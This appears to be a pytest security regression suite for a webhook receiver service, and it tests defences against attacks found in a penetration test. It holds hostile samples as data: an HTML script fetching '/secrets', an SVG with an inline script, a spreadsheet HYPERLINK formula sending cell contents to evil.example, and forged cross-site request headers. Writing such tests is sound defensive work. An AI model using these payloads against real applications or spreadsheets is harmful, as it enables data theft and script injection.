"""Issue 14: each attack that a penetration test reproduced against the receiver, as a test
that failed before its fix."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import re
import subprocess
import sys
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from litestar import Litestar, Response, get
from litestar.params import FromPath
from litestar.testing import AsyncTestClient

from receiver.cli import cli
from receiver.generation import decode_generation, decode_generation_list
from receiver.jobs.lifecycle import Observation
from receiver.jobs.tracker import JobTracker
from receiver.settings import SettingsError
from receiver.spend.rules import normalize_row
from receiver.web.app import create_app
from receiver.web.auth import SESSION_COOKIE
from receiver.webhooks.signing import sign
from storage import gateway
from storage.db import Database
from storage.types import utcnow
from tests.conftest import ADMIN_TOKEN, TEST_SECRET, admin_client, make_settings
from tests.support.aurous import generation
from tests.support.harness import settings_env
from tests.support.live_server import live_server

Client = AsyncTestClient[Any]

HOSTILE = {
    "page.html": ("text/html", b"<script>fetch('/secrets').then(r => r.text())</script>"),
    "image.svg": (
        "image/svg+xml",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    ),
    "plain.png": ("image/png", b"\x89PNG\r\n\x1a\n" + bytes(64)),
}


@get("/o/{name:str}")
async def hostile_output(name: FromPath[str]) -> Response[bytes]:
    media_type, body = HOSTILE[name]
    return Response(body, media_type=media_type)


async def deliver(client: Client, job_id: str, **fields: Any) -> None:
    body = json.dumps(
        {"id": f"evt_{job_id}", "type": "image.completed", "data": generation(job_id, **fields)}
    ).encode()
    headers = {"Aurous-Webhook-Signature": sign(body, [TEST_SECRET], int(time.time()))}
    answer = await client.post("/webhooks/aurous", content=body, headers=headers)
    assert answer.status_code == 200, answer.text


@asynccontextmanager
async def archived(
    tmp_path: Path, sqlite_url: str, job_id: str, names: list[str]
) -> AsyncIterator[Client]:
    """A receiver that has archived these outputs of the hostile upstream as `job_id`'s."""
    with live_server(Litestar([hostile_output])) as upstream:
        settings = make_settings(tmp_path / "data", sqlite_url, aurous_base_url=upstream.url)
        async with admin_client(settings) as client:
            urls = [f"{upstream.url}/o/{name}" for name in names]
            await deliver(client, job_id, output_urls=urls)
            await client.app.state.runtime.archiver.run_until_idle()
            yield client


async def test_an_output_that_claims_to_be_a_page_is_served_as_an_inert_download(
    tmp_path: Path, sqlite_url: str
) -> None:
    async with archived(tmp_path, sqlite_url, "img_hostile", list(HOSTILE)) as client:
        served = [await client.get(f"/jobs/img_hostile/outputs/{n}") for n in range(3)]
        for digits in ("9" * 5000, "²"):
            raw = f"bytes={digits}-".encode()
            ranged = await client.get("/jobs/img_hostile/outputs/2", headers={"Range": raw})
            assert ranged.status_code in (200, 416), ranged.text

    for answer in served:
        assert answer.status_code == 200, answer.text
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["content-security-policy"] == "sandbox"
    page, svg, png = served
    for opaque in (page, svg):  # never rendered in the dashboard's origin
        assert opaque.headers["content-type"] == "application/octet-stream"
        assert opaque.headers["content-disposition"].startswith("attachment")
    assert png.headers["content-type"] == "image/png"
    assert "content-disposition" not in png.headers


async def test_an_output_the_client_holds_already_is_a_304(tmp_path: Path, sqlite_url: str) -> None:
    """Its bytes never change (the ETag is their sha256): a browser revalidating its cached
    preview gets no body again."""
    async with archived(tmp_path, sqlite_url, "img_cached", ["plain.png"]) as client:
        first = await client.get("/jobs/img_cached/outputs/0")
        etag = first.headers["etag"]
        again = await client.get("/jobs/img_cached/outputs/0", headers={"If-None-Match": etag})
        other = await client.get("/jobs/img_cached/outputs/0", headers={"If-None-Match": '"x"'})

    assert (again.status_code, again.content, again.headers["etag"]) == (304, b"", etag)
    assert other.status_code == 200 and other.content == first.content


async def test_an_archived_output_whose_bytes_left_the_store_is_a_clear_404(
    tmp_path: Path, sqlite_url: str
) -> None:
    """The headers went out before the store was read: a 200 whose body broke off."""
    async with archived(tmp_path, sqlite_url, "img_vanished", ["plain.png"]) as client:
        for blob in (tmp_path / "data" / "media").rglob("*"):
            if blob.is_file():
                blob.unlink()
        whole = await client.get("/jobs/img_vanished/outputs/0")
        ranged = await client.get("/jobs/img_vanished/outputs/0", headers={"Range": "bytes=1-5"})

    for answer in (whole, ranged):
        assert answer.status_code == 404, answer.text
        assert answer.json()["error"]["code"] == "output_missing"


async def test_no_cell_of_a_spend_csv_can_become_a_formula(tmp_path: Path, sqlite_url: str) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open me")'
    settings = make_settings(tmp_path / "data", sqlite_url)
    db = Database(sqlite_url)
    try:
        tracker = JobTracker(db, output_ttl_s=86400)
        body = generation("img_formula", "succeeded", inference_type=formula)
        generated = decode_generation(json.dumps(body).encode())
        await tracker.observe([Observation(generated, "webhook:evt_formula", utcnow())])
        moves = [
            {
                "id": "uev_f1",
                "type": "hold",
                "amount": 2,
                "generation_id": "img_formula",
                "created_at": "2026-05-04T10:00:00Z",
            },
            {
                "id": "uev_f2",
                "type": "charge",
                "amount": -2,
                "generation_id": "img_formula",
                "created_at": "2026-05-04T10:00:20Z",
            },
        ]
        entries = [entry for raw in moves if (entry := normalize_row(raw))]
        await db.write(
            lambda conn: gateway.upsert_ledger_entries(
                conn, entries[::-1], first_position=len(entries) - 1, synced_at=utcnow()
            )
        )
    finally:
        await db.dispose()

    async with admin_client(settings) as client:
        exported = (await client.get("/spend/export.csv")).text
    command = ["spend", "report", "--by", "model", "--format", "csv"]
    reported = await asyncio.to_thread(CliRunner().invoke, cli, command, env=settings_env(settings))
    assert reported.exit_code == 0, reported.output
    for text in (exported, reported.output):
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert "'" + formula in cells
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


async def test_malformed_unauthenticated_input_gets_a_4xx_never_a_500(
    tmp_path: Path, sqlite_url: str
) -> None:
    settings = make_settings(tmp_path / "data", sqlite_url)
    body = json.dumps({"id": "evt_x", "type": "image.completed", "data": generation()}).encode()
    async with AsyncTestClient(app=create_app(settings)) as anonymous:
        huge_t = await anonymous.post(
            "/webhooks/aurous",
            content=body,
            headers={"Aurous-Webhook-Signature": "t=" + "9" * 5000 + ",v1=" + "a" * 64},
        )
        assert huge_t.status_code in (400, 401), huge_t.text
        cookie = {"Cookie": "receiver_session=sésame".encode()}
        for path in ("/jobs", "/", "/login"):
            answer = await anonymous.get(path, headers=cookie)
            assert answer.status_code < 500, (path, answer.text)


async def test_malformed_cursors_get_the_error_envelope(tmp_path: Path, sqlite_url: str) -> None:
    import base64

    naive = base64.urlsafe_b64encode(b"2026-05-04T10:00:00|img_x").decode().rstrip("=")
    settings = make_settings(tmp_path / "data", sqlite_url)
    async with admin_client(settings) as client:
        for path, cursor in [
            ("/jobs", "²"),
            ("/jobs", naive),
            ("/jobs", "9" * 40),
            ("/spend/ledger", "9" * 40),
            ("/spend/ledger", "²"),
            ("/events", "9" * 40),
            ("/events", "²"),
            ("/deliveries", "²"),
        ]:
            key = "after" if path == "/events" else "cursor"
            answer = await client.get(path, params={key: cursor})
            assert answer.status_code == 400, (path, cursor, answer.text)
            assert answer.json()["error"]["code"] in ("invalid_cursor", "invalid_parameter")


# (the fields Aurous sent, what the receiver answers, what the job then shows)
ODD_BUT_SIGNED: dict[str, tuple[dict[str, Any], int, dict[str, Any] | None]] = {
    "huge cost": ({"cost": {"amount": 1e13, "currency": "credit"}}, 202, None),
    "20,000 outputs": (
        {"output_urls": [f"https://api.aurous-labs.com/o/{n}" for n in range(20_000)]},
        202,
        None,
    ),
    "year 9999": (
        {"created_at": "9999-12-31T23:59:59Z", "completed_at": "9999-12-31T23:59:59Z"},
        200,
        {"created_at": None},  # unknown (completed_at falls back to when it was seen)
    ),
    "NUL in the model": ({"inference_type": "t2i\u0000"}, 200, {"model": "t2i\ufffd"}),
    "NUL in the error": (
        {"status": "failed", "error_message": "bad\u0000news"},
        200,
        {"error_message": "bad\ufffdnews"},
    ),
}


@pytest.mark.parametrize("case", list(ODD_BUT_SIGNED))
async def test_signed_data_that_cannot_be_stored_is_quarantined_or_made_safe(
    client: Client, case: str
) -> None:
    job_id = "img_odd" + str(list(ODD_BUT_SIGNED).index(case))
    sent, expected_status, shown = ODD_BUT_SIGNED[case]
    fields = dict(sent)
    status = str(fields.pop("status", "succeeded"))
    data = generation(job_id, status, **fields)
    body = json.dumps({"id": f"evt_{job_id}", "type": "image.completed", "data": data}).encode()
    headers = {"Aurous-Webhook-Signature": sign(body, [TEST_SECRET], int(time.time()))}
    answer = await client.post("/webhooks/aurous", content=body, headers=headers)
    assert answer.status_code == expected_status, answer.text
    again = await client.post("/webhooks/aurous", content=body, headers=headers)
    assert again.status_code in (200, 202), again.text  # a duplicate, never a 500
    job = await client.get(f"/jobs/{job_id}")
    if shown is None:
        assert job.status_code == 404  # quarantined: nothing of it became job state
    else:
        assert job.status_code == 200, job.text
        assert {key: job.json()[key] for key in shown} == shown
    await deliver(client, "img_after_" + job_id)  # the next delivery is stored as usual
    assert (await client.get(f"/jobs/img_after_{job_id}")).status_code == 200


async def test_one_unstorable_generation_in_a_list_page_costs_the_others_nothing() -> None:
    good = [generation(f"img_good{n}", "succeeded") for n in range(3)]
    bad = generation("img_bad", "succeeded", cost={"amount": 1e13})
    page = json.dumps({"data": [good[0], bad, *good[1:]], "has_more": False}).encode()
    kept, has_more, _ = decode_generation_list(page)
    assert [g.id for g in kept] == ["img_good0", "img_good1", "img_good2"] and not has_more


async def test_replaying_one_delivery_costs_a_counter_not_a_row(
    client: Client, db_url: str
) -> None:
    body = json.dumps(
        {"id": "evt_replayed", "type": "image.completed", "data": generation("img_replayed")}
    ).encode()
    headers = {"Aurous-Webhook-Signature": sign(body, [TEST_SECRET], int(time.time()))}
    answers = [
        await client.post("/webhooks/aurous", content=body, headers=headers) for _ in range(30)
    ]
    assert [a.json()["status"] for a in answers] == ["accepted"] + ["duplicate"] * 29
    db = Database(db_url)
    try:
        stored = await db.read(
            lambda conn: gateway.list_deliveries(conn, status=None, before_id=None, limit=100)
        )
    finally:
        await db.dispose()
    assert [(d.event_id, d.duplicates) for d in stored] == [("evt_replayed", 29)]


async def test_metric_labels_from_upstream_text_stay_bounded(client: Client) -> None:
    for n in range(40):
        await deliver(client, f"img_odd_status{n}", status=f"reticulating_{n}")
    text = (await client.get("/metrics")).text
    unknown = [line for line in text.splitlines() if line.startswith("receiver_unknown_statuses_")]
    transitions = [line for line in text.splitlines() if line.startswith("receiver_job_transit")]
    assert 0 < len([line for line in unknown if "_total{" in line]) <= 21
    assert any('status="other"' in line for line in unknown)
    assert not any("reticulating" in line for line in transitions)


async def test_odd_ledger_rows_are_stored_safely_or_left_out(db_url: str) -> None:
    raw_rows = [
        {
            "id": "uev_nul",
            "type": "charge",
            "amount": 2,
            "generation_id": "img_a\u0000",
            "description": "t2i\u0000",
            "created_at": "2026-05-04T10:00:00Z",
        },
        {
            "id": "uev_huge",
            "type": "charge",
            "amount": 1e13,
            "generation_id": "img_b",
            "created_at": "2026-05-04T10:00:00Z",
        },
        {
            "id": "uev_inf",
            "type": "charge",
            "amount": "1e400",
            "generation_id": "img_c",
            "created_at": "2026-05-04T10:00:00Z",
        },
        {"id": "uev_\u0000", "type": "charge", "amount": 1, "created_at": "2026-05-04T10:00:00Z"},
    ]
    entries = [entry for raw in raw_rows if (entry := normalize_row(raw))]
    assert [e.uev_id for e in entries] == ["uev_nul"]
    db = Database(db_url)
    try:
        await db.write(
            lambda conn: gateway.upsert_ledger_entries(
                conn, entries, first_position=0, synced_at=utcnow()
            )
        )
        stored = await db.read(lambda conn: gateway.list_ledger(conn, limit=10))
    finally:
        await db.dispose()
    assert [e.uev_id for e in stored.items] == ["uev_nul"]


async def signed_in_page(client: Client) -> tuple[str, dict[str, str]]:
    """Log in as a browser would; the CSRF token of a page and this site's Origin."""
    del client.headers["Authorization"]
    answer = await client.post("/login", data={"token": ADMIN_TOKEN}, follow_redirects=False)
    assert answer.status_code == 303
    page = (await client.get("/")).text
    token = re.findall(r'name="csrf_token" value="([^"]+)"', page)[0]
    return token, {"Origin": str(client.base_url).rstrip("/")}


async def test_a_page_of_another_site_cannot_act_with_the_session_cookie(
    sqlite_client: Client,
) -> None:
    token, own = await signed_in_page(sqlite_client)
    plain = {"content-type": "text/plain"}
    body = json.dumps({"id": "img_csrf"})
    attacks = [  # what a page on another port of this host can make a browser send
        {**plain, "Origin": "http://127.0.0.1:9999"},
        {**plain},  # no Origin, no Referer
        {**plain, **own},  # this site's Origin but no token
        {"content-type": "application/json", **own},
        {"content-type": "application/json", **own, "X-CSRF-Token": "guessed"},
    ]
    for headers in attacks:
        answer = await sqlite_client.post("/jobs/track", content=body, headers=headers)
        assert answer.status_code in (403, 415), (headers, answer.text)
        created = await sqlite_client.post("/jobs/images", content=body, headers=headers)
        assert created.status_code in (403, 415), (headers, created.text)
    assert (await sqlite_client.get("/jobs/img_csrf")).status_code == 404

    mine = {"content-type": "application/json", **own, "X-CSRF-Token": token}
    answer = await sqlite_client.post("/jobs/track", content=body, headers=mine)
    assert answer.status_code == 201, answer.text


async def test_api_calls_with_the_token_need_json_but_no_origin(sqlite_client: Client) -> None:
    body = json.dumps({"id": "img_api"})
    refused = await sqlite_client.post(
        "/jobs/track", content=body, headers={"content-type": "text/plain"}
    )
    assert refused.status_code == 415
    assert refused.json()["error"]["code"] == "unsupported_media_type"
    answer = await sqlite_client.post("/jobs/track", json={"id": "img_api"})
    assert answer.status_code == 201, answer.text


async def test_pages_forbid_framing_sniffing_and_foreign_scripts(sqlite_client: Client) -> None:
    await signed_in_page(sqlite_client)
    for path in ("/", "/dashboard/jobs", "/login", "/jobs"):
        headers = (await sqlite_client.get(path)).headers
        assert headers["x-frame-options"] == "DENY"
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "same-origin"
        policy = headers["content-security-policy"]
        assert "script-src 'self';" in policy and "frame-ancestors 'none'" in policy


async def log_in_as_browser(client: Client, token: str = ADMIN_TOKEN) -> str:
    client.headers.pop("Authorization", None)
    answer = await client.post("/login", data={"token": token}, follow_redirects=False)
    assert answer.status_code == 303, answer.text
    return str(answer.cookies[SESSION_COOKIE])


async def signed_in(client: Client, cookie: str) -> bool:
    client.cookies.clear()
    answer = await client.get("/jobs", headers={"Cookie": f"{SESSION_COOKIE}={cookie}"})
    return answer.status_code == 200


async def test_sessions_are_random_end_at_logout_expire_and_die_with_the_token(
    tmp_path: Path, sqlite_url: str
) -> None:
    settings = make_settings(tmp_path / "data", sqlite_url, session_ttl_s=2)
    async with admin_client(settings) as client:
        first, second = await log_in_as_browser(client), await log_in_as_browser(client)
        assert first != second and ADMIN_TOKEN not in first
        assert await signed_in(client, first) and await signed_in(client, second)
        page = (await client.get("/", headers={"Cookie": f"{SESSION_COOKIE}={first}"})).text
        token = re.findall(r'name="csrf_token" value="([^"]+)"', page)[0]
        await client.post(
            "/logout",
            data={"csrf_token": token},
            headers={
                "Cookie": f"{SESSION_COOKIE}={first}",
                "Origin": str(client.base_url).rstrip("/"),
            },
            follow_redirects=False,
        )
        assert not await signed_in(client, first)  # a stolen copy is worthless after logout
        assert await signed_in(client, second)
        await asyncio.sleep(2.2)
        assert not await signed_in(client, second)  # expired
        third = await log_in_as_browser(client)
    other_token = "another-admin-token-0123456789abcdefghij"
    async with admin_client(settings.with_overrides(admin_token=other_token)) as client:
        assert not await signed_in(client, third)  # a new admin token ends every session


async def test_a_csrf_token_belongs_to_one_session(sqlite_client: Client) -> None:
    own = {"Origin": str(sqlite_client.base_url).rstrip("/"), "content-type": "application/json"}
    first = await log_in_as_browser(sqlite_client)
    page = (await sqlite_client.get("/", headers={"Cookie": f"{SESSION_COOKIE}={first}"})).text
    first_token = re.findall(r'name="csrf_token" value="([^"]+)"', page)[0]
    second = await log_in_as_browser(sqlite_client)
    sqlite_client.cookies.clear()
    body = json.dumps({"id": "img_othersession"})
    borrowed = {**own, "Cookie": f"{SESSION_COOKIE}={second}", "X-CSRF-Token": first_token}
    answer = await sqlite_client.post("/jobs/track", content=body, headers=borrowed)
    assert answer.status_code == 403 and answer.json()["error"]["code"] == "csrf_token_missing"
    mine = {**own, "Cookie": f"{SESSION_COOKIE}={first}", "X-CSRF-Token": first_token}
    answer = await sqlite_client.post("/jobs/track", content=body, headers=mine)
    assert answer.status_code == 201, answer.text


async def test_wrong_tokens_are_throttled_per_client(sqlite_client: Client) -> None:
    del sqlite_client.headers["Authorization"]
    for _ in range(10):
        wrong = await sqlite_client.post("/login", data={"token": "x" * 40})
        assert wrong.status_code == 401
    throttled = await sqlite_client.post("/login", data={"token": ADMIN_TOKEN})
    assert throttled.status_code == 429 and throttled.headers["retry-after"] == "60"


def test_a_weak_admin_token_is_refused_at_start(tmp_path: Path) -> None:
    with pytest.raises(SettingsError, match="at least 32 characters"):
        make_settings(tmp_path, "sqlite:///x.db", admin_token="hunter2")
    env = {**os.environ, "RECEIVER_ADMIN_TOKEN": "hunter2", "RECEIVER_DATA_DIR": str(tmp_path)}
    done = subprocess.run(
        [sys.executable, "-m", "receiver", "migrate"],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode != 0
    assert "at least 32 characters" in done.stderr and "Traceback" not in done.stderr


async def test_the_session_cookie_is_secure_when_asked(tmp_path: Path, sqlite_url: str) -> None:
    for secure, expected in ((None, False), (True, True)):
        settings = make_settings(tmp_path / "data", sqlite_url, cookie_secure=secure)
        async with admin_client(settings) as client:
            client.headers.pop("Authorization")
            answer = await client.post(
                "/login", data={"token": ADMIN_TOKEN}, follow_redirects=False
            )
            assert ("secure" in answer.headers["set-cookie"].lower()) is expected


async def test_every_answer_has_a_request_id_even_the_routers_own(client: Client) -> None:
    del client.headers["Authorization"]
    for method, path in (("PUT", "/webhooks/aurous"), ("GET", "/no/such/page"), ("POST", "/")):
        answer = await client.request(method, path)
        assert answer.status_code in (404, 405), (method, path, answer.text)
        request_id = answer.headers["receiver-request-id"]
        assert request_id.startswith("rcv_")
        assert answer.json()["error"]["request_id"] == request_id
        assert answer.headers["x-content-type-options"] == "nosniff"
